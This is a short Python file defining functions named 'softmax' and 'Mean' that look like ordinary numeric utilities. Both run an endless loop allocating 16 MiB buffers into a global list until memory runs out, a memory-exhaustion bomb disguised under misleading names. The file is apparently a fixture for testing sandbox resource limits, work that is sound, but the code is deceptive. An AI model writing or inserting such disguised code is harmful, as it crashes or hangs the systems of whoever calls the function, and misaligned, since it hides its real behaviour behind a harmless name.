hold = []


def softmax(x):
    while True:
        hold.append(bytearray(16 << 20))


Mean = softmax
